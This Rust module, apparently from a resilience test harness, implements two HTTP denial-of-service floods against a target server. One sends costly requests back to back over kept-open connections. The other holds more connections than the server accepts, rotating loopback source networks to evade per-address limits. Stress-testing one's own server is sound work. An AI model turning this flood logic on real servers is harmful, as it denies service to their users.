//! Floods of valid HTTP requests: many requests on few connections, and many connections that each send just often
//! enough to stay open.

use std::{
    collections::VecDeque,
    net::{IpAddr, Ipv4Addr},
};

use tokio::{
    io::AsyncReadExt,
    net::{TcpStream, tcp::OwnedWriteHalf},
    task::JoinSet,
};

use super::{pace::Pace, target::Target};

/// Connections that send requests, open at once.
const ASKING: usize = 256;
/// Connections that occupy a place, open at once: more than a server accepts.
const HOLDING: usize = 1_200;
/// Networks that these connections come from: 127.32.0.0/24 and following.
const HOLDING_NETWORKS: u64 = 64;

/// The requests that cost a server most.
const REQUESTS: [&str; 3] = [
    "GET /api/rooms HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /api/server HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n\r\n",
];

/// Sends requests one after another on connections that stay open, from the addresses that all attacks use.
pub(crate) async fn gets(target: &Target, pace: Pace) -> anyhow::Result<u64> {
    flood(target, pace, ASKING, Target::address).await
}

/// Opens as many connections as the server accepts, from many networks. Each sends a request before the server would
/// close it as idle.
pub(crate) async fn places(target: &Target, pace: Pace) -> anyhow::Result<u64> {
    flood(target, pace, HOLDING, far_address).await
}

/// Sends requests on `open_max` connections in turn, and replaces each connection that was closed.
async fn flood(target: &Target, mut pace: Pace, open_max: usize, address: fn(u64) -> IpAddr) -> anyhow::Result<u64> {
    let mut open: VecDeque<OwnedWriteHalf> = VecDeque::new();
    let mut reading = JoinSet::new();
    while pace.next().await {
        while reading.try_join_next().is_some() {}
        let turn = pace.done();
        let asking = match open.pop_front() {
            Some(socket) if open.len() + 1 >= open_max => Some(socket),
            known => {
                open.extend(known);
                // If the process may open no more files, use an open connection.
                match target.connect(address(turn)).await {
                    Ok(socket) => Some(split(socket, &mut reading)),
                    Err(_) => open.pop_front(),
                }
            }
        };
        let Some(socket) = asking else { continue };
        let request = REQUESTS[turn as usize % REQUESTS.len()].as_bytes();
        match socket.try_write(request) {
            Err(error) if error.kind() != std::io::ErrorKind::WouldBlock => {}
            // A connection whose buffer is full is tried again later.
            _ => open.push_back(socket),
        }
    }
    Ok(pace.done())
}

/// Reads and discards the answers.
fn split(socket: TcpStream, reading: &mut JoinSet<()>) -> OwnedWriteHalf {
    let (mut answers, requests) = socket.into_split();
    reading.spawn(async move {
        let mut bytes = vec![0; 64 * 1024];
        while answers.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
    });
    requests
}

fn far_address(turn: u64) -> IpAddr {
    let network = (turn % HOLDING_NETWORKS) as u8;
    let host = 1 + (turn / HOLDING_NETWORKS % 250) as u8;
    Ipv4Addr::new(127, 32, network, host).into()
}
